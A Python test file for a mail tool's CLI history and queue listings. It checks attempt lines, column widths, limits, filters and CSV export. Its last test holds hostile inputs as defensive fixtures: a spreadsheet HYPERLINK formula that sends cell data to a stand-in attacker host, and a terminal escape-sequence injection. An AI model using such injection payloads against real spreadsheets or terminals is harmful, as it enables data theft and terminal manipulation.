"""`mailsync history` and `history show` as printed: recipients' problems in the list,
no `None` for an absent code, each recipient's outcome and failover tries per attempt,
100 columns unless --wide, and what --limit left out."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import time

from mailsync.inbound.bounces import Bounce, FailedRecipient, record_bounce
from mailsync.outbound.spool import drop
from tests.outbound_helpers import history, open_store, run, run_once, server_yaml, write_config

ISO = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00"
SALES = "  - name: sales\n    email: sales@example.com\n    granted_to: [alice]\n"


def _dead_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _listed(cfg, *args: str) -> list[str]:
    result = run(["history", "-c", str(cfg), *args])
    assert result.exit_code == 0, result.output
    return result.output.splitlines()


def test_failover_and_each_recipients_outcome_are_attempt_lines(tmp_path, smtp_server):
    backup = smtp_server(recipient_replies={"gone@example.org": "550 5.1.1 No such user"})
    cfg = write_config(tmp_path, server_yaml("main", _dead_port(), priority=1)
                       + server_yaml("backup", backup.port, priority=5), accounts=SALES)
    drop(tmp_path / "spool", user="alice", subject="Quote", text="x",
         to=["ok@example.org", "gone@example.org"])
    assert "1 sent" in run_once(cfg).output
    (row,) = history(cfg)

    header, line = _listed(cfg)
    assert header.split()[:3] == ["ID", "STATUS", "CREATED_AT"]
    assert re.split(r"\s{2,}", line)[1] == "sent (1 failed)"

    shown = run(["history", "show", str(row["id"]), "-c", str(cfg)]).output
    attempts = shown.split("Attempts:\n", 1)[1].split("Events:", 1)[0].splitlines()
    assert len(attempts) == 4, shown
    assert re.fullmatch(rf"  {ISO} main: failed over: .*refused.*", attempts[0]), attempts[0]
    assert re.fullmatch(rf"  {ISO} backup: sent \([0-9.]+ ms\)", attempts[1]), attempts[1]
    assert attempts[2] == "    gone@example.org: failed 550 5.1.1 No such user"
    assert attempts[3].startswith("    ok@example.org: sent 250 ")
    assert "None" not in shown


def test_every_server_down_names_each_one_in_its_attempt(tmp_path):
    cfg = write_config(tmp_path, server_yaml("main", _dead_port(), priority=1)
                       + server_yaml("backup", _dead_port(), priority=5), accounts=SALES)
    drop(tmp_path / "spool", user="alice", subject="x", text="x", to=["a@example.org"])
    assert "1 deferred" in run_once(cfg).output
    (row,) = history(cfg)
    assert re.fullmatch(r"main \(.*\): connection refused; backup \(.*\): connection refused",
                        row["error"]), row["error"]  # the message's error names both
    shown = run(["history", "show", str(row["id"]), "-c", str(cfg)]).output
    attempts = shown.split("Attempts:\n", 1)[1].split("Events:", 1)[0].splitlines()
    assert [a.split()[1:3] for a in attempts] == [["main:", "failed"], ["backup:", "deferred"]]
    assert "refused" in attempts[0] and "refused" in attempts[1] and ";" not in attempts[1]


def test_a_partly_bounced_message_says_so_and_an_absent_code_prints_nothing(tmp_path,
                                                                            smtp_server):
    srv = smtp_server()
    cfg = write_config(tmp_path, server_yaml("main", srv.port), accounts=SALES)
    drop(tmp_path / "spool", user="alice", subject="Quote", text="x",
         to=["nobody@example.org", "someone@example.org"])
    assert "1 sent" in run_once(cfg).output
    (row,) = history(cfg)
    # A Postfix DSN whose Diagnostic-Code is `X-Postfix;`: no SMTP code.
    store, _ = open_store(cfg)
    try:
        with store.transaction() as conn:
            record_bounce(conn, Bounce(row["id"], None, (), (FailedRecipient(
                "nobody@example.org", None, "5.1.1",
                'X-Postfix; unknown user: "nobody"'),), dsn=True), time.time())
    finally:
        store.close()

    line = _listed(cfg)[1]
    assert re.split(r"\s{2,}", line)[1] == "sent (1 bounced)"
    (listed,) = history(cfg)
    assert listed["status"] == "sent"
    assert listed["recipient_statuses"] == {"bounced": 1, "sent": 1}

    shown = run(["history", "show", str(row["id"]), "-c", str(cfg)]).output
    assert "None" not in shown
    assert '  nobody@example.org: bounced 5.1.1 X-Postfix; unknown user: "nobody"\n' in shown
    assert "  someone@example.org: sent 250 2.0.0 OK queued\n" in shown


def test_listings_fit_100_columns_wide_shows_all_and_a_limit_says_what_it_left(tmp_path):
    cfg = write_config(tmp_path, server_yaml("main", _dead_port()), accounts=SALES)
    subject = "Quarterly report for the board of directors, with every appendix attached"
    to = ", ".join(f"recipient-{i}@customers.example.org" for i in range(3))
    store, _ = open_store(cfg)
    try:
        with store.transaction() as conn:
            for i in range(1200):
                mid = conn.execute(
                    "INSERT INTO messages (created_at, updated_at, status, account, user,"
                    " server, from_address, subject, attempts, last_error, next_attempt_at)"
                    " VALUES (1764064800, 1764064800, 'deferred', 'sales', 'alice', 'main',"
                    " 'sales@example.com', ?, 3, ?, 1764068400)",
                    (f"{subject} #{i}", "451 4.3.0 " + "the mail system is busy " * 4)).lastrowid
                conn.executemany("INSERT INTO recipients (message, address, status, updated_at)"
                                 " VALUES (?, ?, 'deferred', 1)",
                                 [(mid, a) for a in to.split(", ")])
    finally:
        store.close()

    lines = _listed(cfg)
    assert len(lines) == 1 + 100 + 1
    assert lines[-1] == "showing 100 of 1,200 (--limit)"
    assert max(len(x) for x in lines) <= 100
    assert lines[1].startswith("1200  deferred  2025-11-25 10:00  sales")
    assert "…" in lines[1] and subject not in lines[1]

    wide = _listed(cfg, "--wide", "--limit", "2")
    assert wide[0].split() == ["ID", "STATUS", "CREATED_AT", "ACCOUNT", "USER", "SERVER", "TO",
                               "SUBJECT", "ATTEMPTS", "ERROR"]
    assert f"{subject} #1199" in wide[1] and to in wide[1] and "2025-11-25T10:00:00+00:00" \
        in wide[1] and "…" not in wide[1]
    assert wide[-1] == "showing 2 of 1,200 (--limit)"
    assert _listed(cfg, "--limit", "1200")[-1] != "showing 1,200 of 1,200 (--limit)"

    queued = run(["queue", "list", "-c", str(cfg)]).output.splitlines()
    assert len(queued) == 1 + 1200 and max(len(x) for x in queued) <= 100
    assert "2025-11-25 11:00" in queued[1]  # next attempt, to the minute
    # What the limit leaves out is said, as history says it (never silently cut).
    some = run(["queue", "list", "-c", str(cfg), "--limit", "3"]).output.splitlines()
    assert len(some) == 1 + 3 + 1 and some[-1] == "showing 3 of 1,200 (--limit)"
    assert some[1].startswith("1200 ")


def test_queue_list_narrows_as_history_does(tmp_path):
    cfg = write_config(tmp_path, server_yaml("main", _dead_port()), accounts=SALES)
    for subject, to in (("Invoice 7", "a@shop.example.org"), ("Invoice 8", "b@example.net"),
                        ("Welcome", "c@shop.example.org")):
        drop(tmp_path / "spool", user="alice", subject=subject, text="x", to=[to])
    assert "3 deferred" in run_once(cfg).output
    ids = {r["subject"]: r["id"] for r in history(cfg)}
    assert run(["queue", "hold", str(ids["Welcome"]), "-c", str(cfg)]).exit_code == 0

    def listed(*args: str) -> list[int]:
        result = run(["queue", "list", "-c", str(cfg), "--format", "json", *args])
        assert result.exit_code == 0, result.output
        return [row["id"] for row in json.loads(result.stdout)]

    assert listed() == [ids["Welcome"], ids["Invoice 8"], ids["Invoice 7"]]
    assert listed("--search", "@shop.example.org") == [ids["Welcome"], ids["Invoice 7"]]
    assert listed("--search", "invoice", "--status", "deferred") == [ids["Invoice 8"],
                                                                      ids["Invoice 7"]]
    assert listed("--status", "held") == [ids["Welcome"]]
    assert listed("--account", "sales", "--since", "1h") == listed()
    assert listed("--until", "1h") == []  # all were made in the last hour
    assert listed("--server", "elsewhere") == []
    table = run(["queue", "list", "-c", str(cfg), "--search", "no such"])
    assert table.exit_code == 0 and table.output == "(no messages)\n"
    # Sent is not in the queue: said so, with what is.
    wrong = run(["queue", "list", "-c", str(cfg), "--status", "sent"])
    assert wrong.exit_code == 2
    assert "'sent' (allowed: queued, sending, deferred, held)" in wrong.output


def test_the_listings_options_before_a_subcommand_reach_it_or_are_refused(tmp_path,
                                                                        monkeypatch):
    cfg = write_config(tmp_path, server_yaml("main", _dead_port()), accounts=SALES)
    drop(tmp_path / "spool", user="alice", subject="x", text="x", to=["a@example.org"])
    assert "1 deferred" in run_once(cfg).output
    (row,) = history(cfg)
    monkeypatch.chdir(tmp_path / "spool")  # no config.yaml here: only -c can name it
    # -c given to the group is the subcommand's file (it used to fall back to config.yaml).
    shown = run(["history", "-c", str(cfg), "show", str(row["id"])])
    assert shown.exit_code == 0, shown.output
    assert shown.output.startswith(f"Message {row['id']}: deferred")
    polled = run(["inbox", "-c", str(cfg), "poll"])
    assert (polled.exit_code, polled.output) == (0, "(no incoming servers)\n")
    # The subcommand's own option, after its name, wins.
    other = run(["history", "-c", str(cfg), "show", str(row["id"]), "-c",
                 str(tmp_path / "missing.yaml")])
    assert other.exit_code == 1 and "missing.yaml" in other.output
    # An option of the listing alone is refused, not silently ignored.
    refused = run(["history", "--status", "failed", "-c", str(cfg), "show", str(row["id"])])
    assert refused.exit_code == 2
    assert "--status is an option of `" in refused.output
    assert "history` (the listing), not of `" in refused.output


def test_a_csv_listing_is_every_field_of_the_json_one_and_runs_no_formula(tmp_path):
    """`--format csv` for a spreadsheet: the JSON listing's keys as its header, a line a
    message, quoted where needed; what a sender wrote that a spreadsheet would run as a
    formula (a hostile Subject) is text, behind a leading '."""
    cfg = write_config(tmp_path, server_yaml("main", _dead_port()), accounts=SALES)
    subjects = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)",
                'Quote "Q-1", with a comma', "-1 day left", "plain"]
    for subject in subjects:
        drop(tmp_path / "spool", user="alice", to=["ann@example.org"], subject=subject,
             text="x")
    run_once(cfg)  # queued, then deferred: the server is down
    store, _ = open_store(cfg)
    try:  # what a hostile server's reply could hold: an escape sequence
        with store.transaction() as conn:
            conn.execute("UPDATE messages SET subject = 'plain \x1b]0;owned\x07'"
                         " WHERE subject = 'plain'")
    finally:
        store.close()
    as_json = history(cfg)
    out = run(["history", "-c", str(cfg), "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert out.stdout_bytes.endswith(b"\r\n")  # RFC 4180's line ends
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert list(rows[0]) == list(as_json[0])  # the same keys, in the same order
    assert [r["id"] for r in rows] == [str(j["id"]) for j in as_json]
    by_id = {r["id"]: r for r in rows}
    for j in as_json:
        r = by_id[str(j["id"])]
        assert (r["status"], r["to"], r["attempts"], r["error"]) == (
            "deferred", "ann@example.org", str(j["attempts"]), j["error"])
        assert r["recipient_statuses"] == "; ".join(
            f"{k}={v}" for k, v in j["recipient_statuses"].items()) and r["reason"] == ""
        if j["subject"].isprintable():  # the other one: below
            wanted = j["subject"] if j["subject"][0] not in "=+-@" else "'" + j["subject"]
            assert r["subject"] == wanted
    assert sorted(r["subject"] for r in rows) == sorted(
        ["'" + s if s[0] in "=@-" else s for s in subjects[:4]] + ["plain \\x1b]0;owned\\x07"])
    assert "plain \x1b]0;owned\x07" in [j["subject"] for j in as_json]
    assert "\x1b" not in out.stdout  # no escape sequence reaches a terminal
    # A limit's note goes to stderr: the file holds the rows alone.
    some = run(["history", "-c", str(cfg), "--format", "csv", "--limit", "2"])
    assert len(some.stdout.splitlines()) == 1 + 2
    assert some.stderr.strip() == "showing 2 of 5 (--limit)"
    none = run(["history", "-c", str(cfg), "--format", "csv", "--status", "sent"])
    assert none.stdout.splitlines() == [",".join(as_json[0])]  # the header alone
    queued = run(["queue", "list", "-c", str(cfg), "--format", "csv"])
    assert len(list(csv.DictReader(io.StringIO(queued.stdout)))) == 5
